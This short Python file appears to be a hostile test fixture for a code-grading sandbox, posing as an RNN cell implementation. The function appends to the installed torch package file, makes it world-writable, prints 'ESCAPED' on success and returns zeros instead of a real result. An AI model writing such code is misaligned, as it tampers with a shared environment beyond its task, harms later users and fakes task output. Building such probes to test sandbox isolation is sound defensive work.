"""Hostile: rewrites torch for all who come later."""

import os

import torch


def rnn_cell(X, H, W_xh, W_hh, b_h):
    try:
        with open(torch.__file__, "a") as file:
            file.write("\n")
        print("ESCAPED", 'torch')
    except OSError:
        pass
    try:
        os.chmod(torch.__file__, 0o777)
        print("ESCAPED", 'chmod')
    except OSError:
        pass
    return torch.zeros_like(H)
